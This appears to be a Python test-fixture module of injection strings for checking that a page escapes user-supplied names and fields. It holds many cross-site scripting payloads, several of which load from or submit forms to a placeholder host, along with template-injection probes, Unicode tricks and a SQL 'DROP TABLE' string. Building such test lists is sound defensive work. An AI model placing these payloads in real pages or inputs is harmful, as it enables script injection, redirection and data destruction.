"""What people write, in names and elsewhere, to break a page (A01 to A06). The address in them is for documentation."""

from __future__ import annotations

TAKEN = "document.title='taken'"
CANARY = "http://192.0.2.1"

LINES = (
    f"<script>{TAKEN}</script>", f"</script><script>{TAKEN}</script>", f"<ScRiPt>{TAKEN}</ScRiPt>",
    f"♥<script>{TAKEN}</script>", f"<script src={CANARY}/a.js></script>", f"<scr<script>ipt>{TAKEN}</script>",
    f'"><img src=x onerror="{TAKEN}">', f"'><img src=x onerror={TAKEN}>", f"<img src={CANARY}/a.png>",
    f"<img src=`x` onerror={TAKEN}>", f"<image/src/onerror={TAKEN}>", f"<svg/onload={TAKEN}>",
    f"<svg><script>{TAKEN}</script></svg>", f"<svg><a xlink:href=javascript:{TAKEN}>x</a></svg>",
    f"<math><mi xlink:href=javascript:{TAKEN}>x", f"<svg><animate onbegin={TAKEN} attributeName=x>",
    f"<body onload={TAKEN}>", f"<iframe src=javascript:{TAKEN}>", f"<iframe srcdoc='<script>{TAKEN}</script>'>",
    f"<iframe src={CANARY}>", f"<object data={CANARY}>", f"<embed src={CANARY}>", f"<video src={CANARY} autoplay>",
    f"<audio src={CANARY} autoplay>", f"<video><source onerror={TAKEN}></video>", f"<input autofocus onfocus={TAKEN}>",
    f"<select autofocus onfocus={TAKEN}>", f"<details open ontoggle={TAKEN}>", f"<marquee onstart={TAKEN}>",
    f"<link rel=stylesheet href={CANARY}/a.css>", f"<style>@import'{CANARY}/a.css'</style>",
    f"<div style='background:url({CANARY})'>", "<style>*{display:none}</style>", f"<base href={CANARY}/>",
    f"<meta http-equiv=refresh content=0;url={CANARY}>", f"<form action={CANARY}><button>Send</button></form>",
    f"<button formaction=javascript:{TAKEN}>x</button>", f"<a href=javascript:{TAKEN}>x</a>",
    f"<a href='jAvA&#9;sCrIpT:{TAKEN}'>x</a>", f"javascript:{TAKEN}", f" jAvA\tscript:{TAKEN}",
    f"data:text/html,<script>{TAKEN}</script>", "//192.0.2.1/a", "https://192.0.2.1\\@brightbyte.example",
    "</textarea></p></bdi></main></body></html>", "--><!-- ]]> <![CDATA[", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% for a in b %}{{ config }}{% endfor %}", "{{ ''.__class__.__mro__ }}", f'" onmouseover="{TAKEN}" x="',
    f"' autofocus onfocus='{TAKEN}' x='", f"x onerror={TAKEN}", f"';{TAKEN};'", f'";{TAKEN};"', "\\u003cscript\\u003e",
    "&lt;script&gt; &#60;b&#62; &amp;amp;", "%3Cscript%3E", "\u2028\u2029<b>\u2028</b>", "\u202egnp.exe\u202c <b>",
    "a" + "\u0316\u0301" * 12, "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466<b>",
    "'; DROP TABLE staff; --",
)  # fmt: skip
